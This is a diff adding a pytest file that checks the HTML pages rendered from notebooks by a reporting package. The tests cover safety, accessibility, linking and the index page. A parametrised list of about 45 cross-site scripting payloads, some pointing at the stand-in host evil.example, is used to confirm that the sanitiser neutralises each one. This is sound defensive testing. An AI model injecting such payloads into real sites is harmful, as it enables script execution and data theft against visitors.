@@ -1,0 +1,310 @@
+"""Pages: whole, safe and readable by everybody, whatever a notebook or a return holds."""
+
+from __future__ import annotations
+
+import json
+import re
+from html.parser import HTMLParser
+
+import pytest
+from nbformat import v4
+from page_frames import CONTEXT, HOSTILE, example
+
+from larcnb import figures, tables
+from larcnb.publish import render_page, write_index
+from larcnb.publish.clean import clean_html, markdown
+from larcnb.root import Root
+
+COMPLETE = "application/vnd.larcnb.complete+json"
+PAYLOADS = [
+    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>", "<svg><script>alert(1)</script>",
+    "<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href='jAvAsCrIpT:alert(1)'>x</a>",
+    "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<form action=//evil.example><input name=a><button>go</button></form>", "<object data=//evil.example>",
+    "<embed src=//evil.example>",
+    "<base href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<link rel=stylesheet href=//evil.example>", "<style>@import '//evil.example'</style>",
+    "<div style='background:url(//evil.example)'>x</div>", "<img src=//evil.example/x.png>",
+    "<img srcset='//evil.example/x.png 2x'>",
+    "<video src=//evil.example></video>", "<audio src=//evil.example></audio>",
+    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<p onclick=alert(1)>x</p>",
+    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>", "<template><script>alert(1)</script></template>",
+    "<textarea><script>alert(1)</script></textarea>", "<noscript><img src=x onerror=alert(1)></noscript>",
+    "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<scr<script>ipt>alert(1)</script>",
+    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
+    "<a href='vbscript:x'>x</a>", "\"><script>alert(1)</script>",
+    "' onmouseover='alert(1)", "</main></body><script>alert(1)</script>", "</style><script>alert(1)</script>",
+    "</title><script>alert(1)</script>", "<marquee onstart=alert(1)>x</marquee>", "<select><option onclick=alert(1)>",
+    "[x](javascript:alert(1))", "![x](//evil.example/x.png)",
+    "[x]: javascript:alert(1)\n\n[x]", "<javascript:alert(1)>",
+    "{{ 7 * 7 }}{% for x in [] %}", "$\\href{javascript:alert(1)}{x}$", "```html\n<script>alert(1)</script>\n```",
+]  # fmt: skip
+
+
+class Seen(HTMLParser):
+    """What a browser would make of a page: its elements, with their attributes."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.elements: list[tuple[str, dict]] = []
+        self.open: list[str] = []
+        self.wrong: list[str] = []
+        self.feed(html)
+
+    def handle_starttag(self, tag, attrs):
+        self.elements.append((tag, dict(attrs)))
+        if tag not in {"meta", "img", "br", "hr", "source", "link", "input", "base", "embed", "col"}:
+            self.open.append(tag)
+
+    def handle_endtag(self, tag):
+        if not self.open or self.open.pop() != tag:
+            self.wrong.append(tag)
+
+    def all(self, tag: str) -> list[dict]:
+        return [attrs for name, attrs in self.elements if name == tag]
+
+
+def result(thing, **data):
+    return v4.new_output("execute_result", data={"text/plain": repr(thing)} | data, execution_count=1)
+
+
+def shown(thing):
+    return result(thing, **{"text/html": thing._repr_html_()})
+
+
+def completed(notebook="04_findings", unit="la-01"):
+    return v4.new_output("display_data", data={
+        "text/plain": f"{notebook} is complete for {unit}.", COMPLETE: {"notebook": notebook, "unit": unit},
+    })  # fmt: skip
+
+
+def notebook(*cells, heading="# Does it pay to help early?\n\nWhat we ask."):
+    return v4.new_notebook(cells=[v4.new_markdown_cell(heading), *cells])
+
+
+def code(source="run", *outputs):
+    return v4.new_code_cell(source, outputs=list(outputs))
+
+
+@pytest.fixture(scope="module")
+def full() -> str:
+    """A page with one of each: figure, tables, cards, trace, code, notice."""
+    data = example()
+    futures = data["library"].futures
+    return render_page(
+        notebook(
+            code("authority = 'la-01'"), code("run", shown(CONTEXT)),
+            v4.new_markdown_cell("## Savings\n\nText with `code` and **weight**."),
+            code("figures.saving_by_case(run.cases)", shown(figures.saving_by_case(data["cases"], CONTEXT))),
+            v4.new_markdown_cell("## Families\n\n### One by one"),
+            code("tables.case_cards()", shown(tables.case_cards(
+                data["cases"], data["tables"], data["ledger"], data["prices"], futures, CONTEXT))),
+            code("trace", shown(tables.trace(data["ledger"], data["prices"], futures, CONTEXT))),
+            code("costs", shown(tables.unit_costs_used(data["ledger"], data["prices"], CONTEXT))),
+            code("run.finish()", completed()),
+        ),
+        "Does it pay to help early?: Exampleshire",
+    )  # fmt: skip
+
+
+def assert_harmless(html: str) -> None:
+    """No script, no handler, no style but ours, no address that loads or runs anything."""
+    seen = Seen(html)
+    banned = {"script", "iframe", "object", "embed", "form", "input", "base", "link", "svg", "math", "video", "audio"}
+    assert not banned & {tag for tag, _ in seen.elements}
+    assert len(seen.all("style")) == html.count("<style>") == 1
+    for tag, attrs in seen.elements:
+        assert not any(name.startswith("on") or name in {"style", "srcdoc", "action"} for name in attrs), (tag, attrs)
+        for name in ("src", "srcset"):
+            assert attrs.get(name, "data:image/png;base64,").startswith("data:image/"), (tag, attrs)
+            assert "svg" not in attrs.get(name, "")[:30]
+        href = attrs.get("href", "#")
+        assert re.match(r"#|https?://|(\.\./)?[\w-][\w./-]*\.html", href), (tag, href)
+        if tag == "meta":
+            assert attrs.get("http-equiv", "Content-Security-Policy") == "Content-Security-Policy"
+
+
+def test_a_page_is_whole_and_asks_nothing_of_the_network(full):
+    seen = Seen(full)
+    assert_harmless(full)
+    policy = seen.all("meta")[1]["content"]
+    assert policy.startswith("default-src 'none'; img-src data:; style-src 'sha256-") and "unsafe" not in policy
+    assert seen.wrong == [] and seen.open == []
+
+
+def test_a_page_has_one_heading_a_title_a_language_landmarks_and_a_way_past_them(full):
+    seen = Seen(full)
+    assert len(seen.all("h1")) == 1 and len(seen.all("main")) == 1
+    assert seen.all("html") == [{"lang": "en"}]
+    assert "<title>Does it pay to help early? Exampleshire</title>" in full
+    assert seen.all("a")[0] == {"class": "skip", "href": "#main"}
+
+
+def test_headings_do_not_skip_a_level_and_ids_are_unique(full):
+    seen = Seen(full)
+    levels = [int(tag[1]) for tag, _ in seen.elements if re.fullmatch("h[1-6]", tag)]
+    assert all(after <= before + 1 for before, after in zip(levels, levels[1:], strict=False))
+    ids = [attrs["id"] for _, attrs in seen.elements if "id" in attrs]
+    assert len(ids) == len(set(ids))
+
+
+def test_links_within_the_page_lead_somewhere(full):
+    seen = Seen(full)
+    ids = {attrs.get("id") for _, attrs in seen.elements}
+    inner = [attrs["href"][1:] for attrs in seen.all("a") if attrs.get("href", "").startswith("#")]
+    assert len(inner) > 20 and set(inner) <= ids
+    assert [word for word in ("savings", "families") if word in inner] == ["savings", "families"]
+
+
+def test_every_picture_has_alt_text_with_figures(full):
+    pictures = Seen(full).all("img")
+    assert pictures and all(re.search(r"\d", picture["alt"]) for picture in pictures)
+
+
+def test_code_is_folded_away_but_there_and_silent_cells_share_one_fold(full):
+    assert '<span class="n">figures</span>' in full
+    assert full.count('<details class="code">') == 6
+    assert full.index('<span class="n">authority</span>') < full.index('<h2 id="savings">')
+
+
+def test_the_notice_stands_at_the_top_once(full):
+    assert full.count("A made-up authority.") == 1
+    assert full.index("A made-up authority.") < full.index("<h1>") < full.index("Prices of 2010-11")
+
+
+def test_the_pages_of_a_folder_lead_to_each_other_and_to_the_index(full):
+    links = [attrs["href"] for attrs in Seen(full).all("a")]
+    assert "../index.html" in links and "02_price.html" in links and "04_findings.html" not in links
+    assert '<span aria-current="page">Findings</span>' in full
+
+
+def test_a_pound_not_on_this_page_is_looked_for_on_the_page_of_prices():
+    data = example()
+    html = render_page(notebook(code("x", shown(tables.savings(data["cases"], CONTEXT))), code("y", completed())), "t")
+    assert '<a href="02_price.html#pounds-oak">oak</a>' in html
+    html = render_page(notebook(code("x", shown(tables.savings(data["cases"], CONTEXT)))), "t")
+    assert "#pounds-oak" not in html
+
+
+def test_the_same_notebook_gives_the_same_page(full):
+    nb = notebook(code("run", shown(CONTEXT)))
+    assert render_page(nb, "t") == render_page(nb, "t")
+
+
+def test_internal_pages_are_marked():
+    assert "Internal edition" in render_page(notebook(), "t")
+    assert "Internal edition" not in render_page(notebook(), "t", edition="public")
+    assert "authorities&#39; own staff" in render_page(notebook(code("x", completed("10_x", "consortium/larc4"))), "t")
+
+
+def test_a_page_weighs_little(full):
+    assert len(full.encode()) < 300_000
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_no_payload_is_live_in_any_sink(payload):
+    png = {"image/png": 'aGk="onerror="alert(1)', "text/plain": payload}
+    html = render_page(
+        notebook(
+            v4.new_markdown_cell(f"## {payload}\n\n{payload}\n\n* {payload}\n\n| a |\n|---|\n| {payload} |"),
+            code(payload, shown(CONTEXT), v4.new_output("stream", name="stdout", text=payload),
+                 v4.new_output("display_data", data={"text/html": payload}),
+                 v4.new_output("display_data", data={"text/html": f'<p class="notice">{payload}</p>'}),
+                 v4.new_output("display_data", data={"text/markdown": payload}),
+                 v4.new_output("display_data", data={"text/latex": payload, "text/plain": payload}),
+                 v4.new_output("display_data", data={"image/svg+xml": payload, "application/javascript": payload}),
+                 v4.new_output("display_data", data=png, metadata={"alt": payload, "image/png": {"width": payload}}),
+                 v4.new_output("error", ename=payload, evalue=payload, traceback=[payload])),
+            code("x", completed(payload, payload)), heading=f"# {payload}",
+        ),
+        payload,
+    )  # fmt: skip
+    assert_harmless(html)
+    seen = Seen(html)
+    assert len(seen.all("main")) == len(seen.all("body")) == len(seen.all("title")) == 1
+    assert "49" not in re.sub(r"sha256-[^']*|\d+\.\d+|#[0-9a-f]{3,8}", "", html.split("</head>")[1])
+
+
+def test_cleaning_keeps_what_our_tables_and_figures_are_made_of():
+    data = example()
+    thing = figures.saving_by_case(data["cases"], CONTEXT)._repr_html_()
+    assert clean_html(thing) == thing.replace("&#x27;", "'") or Seen(clean_html(thing)).elements == Seen(thing).elements
+
+
+def test_what_was_left_open_is_closed_where_it_stood():
+    assert clean_html("<div><p>a") == "<div><p>a</p></div>"
+    assert clean_html("a</div></main></body>") == "a"
+
+
+def test_markdown_shows_html_as_the_text_it_is():
+    assert markdown("a <b>b</b>") == "<p>a &lt;b&gt;b&lt;/b&gt;</p>\n"
+
+
+def test_a_step_that_stopped_says_so_without_its_traceback():
+    error = v4.new_output("error", ename="LarcError", evalue="No unit cost.", traceback=["File /home/somebody/x.py"])
+    html = render_page(notebook(code("x", error)), "t")
+    assert "This step stopped." in html and "LarcError: No unit cost." in html and "somebody" not in html
+
+
+@pytest.fixture
+def root(tmp_path) -> Root:
+    for folder in ("la-01", "la-02", "la-03"):
+        (tmp_path / "reports" / folder).mkdir(parents=True)
+        (tmp_path / "data" / "processed" / folder).mkdir(parents=True)
+    (tmp_path / "params").mkdir()
+    for folder in ("la-01", "la-02"):
+        for name in ("01_clean", "04_findings"):
+            (tmp_path / "reports" / folder / f"{name}.html").write_text("x", "utf-8")
+    found = {"notice": "Made up.", "cases": 4, "costed": 3, "headline": "It <b> pays."}
+    found["saving_long"] = {"value": -1234.5}
+    none = {"notice": "", "cases": 0, "costed": 0, "saving_long": 0, "headline": "Sent nothing."}
+    (tmp_path / "data/processed/la-01/findings.json").write_text(json.dumps(found), "utf-8")
+    (tmp_path / "data/processed/la-02/findings.json").write_text(json.dumps(none), "utf-8")
+    (tmp_path / "data/processed/la-03/findings.json").write_text("{broken", "utf-8")
+    return Root(tmp_path)
+
+
+def run_record() -> dict:
+    pages = {"01_clean": {"title": "a", "status": "done"}, "04_findings": {"title": "b", "status": "done"}}
+    return {
+        "round": "larc4", "edition": "internal", "larcnb": "0.1", "python": "3.11", "commit": "abc",
+        "units": {
+            "la-01": {"name": "Alderwick", "status": "done", "notebooks": pages},
+            "la-02": {"name": HOSTILE, "status": "unchanged", "notebooks": pages},
+            "la-03": {"name": "Carrow", "status": "refused", "reason": "An <hour> is missing.", "todo": "Mend it.",
+                      "notebooks": pages},
+            "consortium/larc4": {"name": "round larc4", "status": "done", "notebooks": {}},
+        },
+    }  # fmt: skip
+
+
+def test_the_index_lists_authorities_with_status_numbers_headline_and_pages(root):
+    html = write_index(root, run_record()).read_text("utf-8")
+    assert_harmless(html)
+    row = re.search(r'<tr><th scope="row"><a href="la-01/04_findings.html">Alderwick</a>.*?</tr>', html)[0]
+    assert ">Up to date<" in row and ">4<" in row and ">3<" in row and ">−1,235<" in row and "It &lt;b&gt; pays." in row
+    assert "Took part, sent no cases" in html and "Made up." in html
+    assert "An &lt;hour&gt; is missing. Mend it." in html
+
+
+def test_the_index_links_no_page_that_is_not_there(root):
+    links = [a["href"] for a in Seen(write_index(root, run_record()).read_text("utf-8")).all("a")]
+    assert "la-03/04_findings.html" not in links
+    assert all(link.startswith("#") or (root.reports / link).is_file() for link in links)
+
+
+def test_the_index_counts_who_sent_cases_and_who_did_not(root):
+    html = write_index(root, run_record()).read_text("utf-8")
+    assert "<strong>1</strong> authority sent cases" in html and "<strong>2</strong> sent none" in html
+
+
+def test_the_index_of_nothing_is_a_page_too(tmp_path):
+    html = write_index(Root(tmp_path), {}).read_text("utf-8")
+    assert "No authority has been run yet." in html and len(Seen(html).all("h1")) == 1
+
+
+def test_the_index_is_written_whole_and_the_same_each_time(root):
+    first = write_index(root, run_record()).read_bytes()
+    assert write_index(root, run_record()).read_bytes() == first
+    assert [path.name for path in root.reports.iterdir() if path.is_file()] == ["index.html"]
